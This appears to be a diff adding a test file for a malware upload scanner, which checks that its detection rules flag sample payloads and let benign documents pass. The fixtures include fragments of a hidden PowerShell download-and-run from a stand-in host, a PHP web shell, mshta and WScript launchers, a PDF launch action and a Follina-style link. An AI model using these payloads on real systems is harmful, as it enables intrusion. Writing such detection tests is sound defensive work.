@@ -1,0 +1,134 @@
+import { readdir, readFile } from 'node:fs/promises';
+import fc from 'fast-check';
+import { Document, Packer, Paragraph } from 'docx';
+import { PDFDocument } from 'pdf-lib';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { rawZip } from '../../testing/raw-zip.ts';
+import { bufferSource } from '../zip/index.ts';
+import { embeddedScanner } from './embedded.ts';
+import { EICAR, type Scanner } from './index.ts';
+
+let scanner: Scanner;
+beforeAll(async () => {
+  scanner = await embeddedScanner({ rulesDirectory: '/nonexistent' });
+});
+afterAll(() => scanner.close());
+
+const scan = (bytes: Uint8Array | string) => scanner.scan(bufferSource(Buffer.from(bytes)));
+const wide = (text: string) => Buffer.from(text, 'utf16le');
+const joined = (...parts: string[]) => parts.join('');
+/** 'Equation.3' as \objdata writes it */
+const EQUATION = Buffer.from('Equation.3').toString('hex');
+const SHORTCUT = Buffer.from('4c0000000114020000000000c000000000000046', 'hex');
+
+/** For every shipped rule something that it must find, put together so that this file is none of it. */
+const harmful: Record<string, Uint8Array | string> = {
+  EICAR_Test_File: EICAR,
+  GTUBE_Test_Mail: joined('XJS*C4JDBQADN1.NSBN3*2IDNEN*', 'GTUBE-STANDARD-ANTI-UBE-TEST-EMAIL*C.34X'),
+  Office_Macro_Dropper: joined(
+    'VBA\0Attribut\0e VB_Name\nSub Document_',
+    'Open()\nSet x = CreateObject("MSXML2.',
+    'XMLHTTP")\nCreateObject("WScript.',
+    'Shell").Run f',
+  ),
+  RTF_Equation_Editor_Object: `{\\rtf1{\\object\\objemb\\obj${'update'}{\\*\\obj${'data'} 0105 ${EQUATION.slice(0, 8)}\n${EQUATION.slice(8)}}}}`,
+  Office_Diagnostic_Tool_Link: joined(
+    'location.href = "ms-',
+    'msdt:/id PCWDiagnostic /param IT_Browse',
+    'ForFile=x"',
+  ),
+  PDF_Launch_Command: joined(
+    '%PDF-1.4\n<< /Type /Action /S /Lau',
+    'nch /Win << /F (cmd',
+    '.exe) /P (/c calc) >> >>',
+  ),
+  PDF_Opens_Attachment: joined(
+    '%PDF-1.4\n/JavaScript (this.exportData',
+    'Object({ cName: "x", nLaunch: 2 }))',
+  ),
+  HTA_Starts_Program: joined(
+    '<hta:',
+    'application><script>new ActiveXObject("WScript',
+    '.Shell").Run("cmd /c calc")',
+  ),
+  Script_Downloads_And_Runs: joined(
+    'var s = new ActiveXObject("WScript',
+    '.Shell"); var h = new ActiveXObject("MSXML2',
+    '.XMLHTTP"); var a = new ActiveXObject("ADODB',
+    '.Stream"); a.SaveTo',
+    'File(p)',
+  ),
+  PowerShell_Hidden_Download: joined(
+    'powershell -NoP -w hid',
+    'den -c "IEX (New-Object Net.WebClient).Download',
+    "String('http://x')\"",
+  ),
+  PowerShell_Encoded_Command: joined('powershell.exe -w hid', 'den -enc ', 'QUJD'.repeat(40)),
+  Shortcut_Starts_Script: Buffer.concat([
+    SHORTCUT,
+    wide(joined('C:\\Windows\\mshta', '.exe https', '://x/y.hta')),
+  ]),
+  PHP_Request_Shell: joined('<?php @ev', 'al(base64_decode($_PO', 'ST["x"])); ?>'),
+};
+
+const ruleNames = async () => {
+  const folder = new URL('../../../rules/', import.meta.url);
+  const texts = await Promise.all(
+    (await readdir(folder)).map((name) => readFile(new URL(name, folder), 'utf8')),
+  );
+  return texts.flatMap((text) => [...text.matchAll(/^rule (\w+)/gm)].map(([, name]) => name));
+};
+
+describe('the shipped rules', () => {
+  it('are all tried here', async () => {
+    expect((await ruleNames()).toSorted()).toEqual(Object.keys(harmful).toSorted());
+  });
+
+  it.each(Object.entries(harmful))('UPLOAD-32 %s finds what it describes', async (signature, sample) => {
+    expect(await scan(sample)).toEqual({ status: 'VIRUS', signature });
+    expect(await scan(rawZip([{ name: 'x', content: sample, method: 8 }]))).toMatchObject({
+      status: 'VIRUS',
+    });
+  });
+
+  it('UPLOAD-32 find it whatever stands around it: files may be judged together', async () => {
+    await fc.assert(
+      fc.asyncProperty(
+        fc.constantFrom(...Object.entries(harmful)),
+        fc.uint8Array({ maxLength: 3000 }),
+        fc.uint8Array({ maxLength: 3000 }),
+        async ([, sample], before, behind) => {
+          const gap = Buffer.alloc(16);
+          const bytes = Buffer.concat([before, gap, Buffer.from(sample), gap, behind]);
+          expect(await scan(bytes)).toMatchObject({ status: 'VIRUS' });
+        },
+      ),
+      { numRuns: 100 },
+    );
+  });
+
+  it('UPLOAD-32 let pass what talks about such things', async () => {
+    const manual = Object.values(harmful).map((sample) =>
+      Buffer.from(sample).toString('latin1').slice(0, 30),
+    );
+    expect(await scan(manual.join('\n'))).toEqual({ status: 'PASS' });
+    expect(
+      await scan('Open PowerShell and type Invoke-WebRequest https://example.test -OutFile setup.exe'),
+    ).toEqual({ status: 'PASS' });
+    expect(await scan('Sub Workbook_Open()\nRange("A1").Select\nEnd Sub\nAttribute VB_Name = "VBA"')).toEqual(
+      {
+        status: 'PASS',
+      },
+    );
+  });
+
+  it('UPLOAD-32 let ordinary documents pass', async () => {
+    const word = await Packer.toBuffer(
+      new Document({ sections: [{ children: [new Paragraph('Engagement letter for 2026')] }] }),
+    );
+    const pdf = await PDFDocument.create();
+    pdf.addPage().drawText('Annual accounts');
+    pdf.addJavaScript('greeting', 'app.alert("Please sign on page 3")');
+    for (const bytes of [word, await pdf.save()]) expect(await scan(bytes)).toEqual({ status: 'PASS' });
+  });
+});
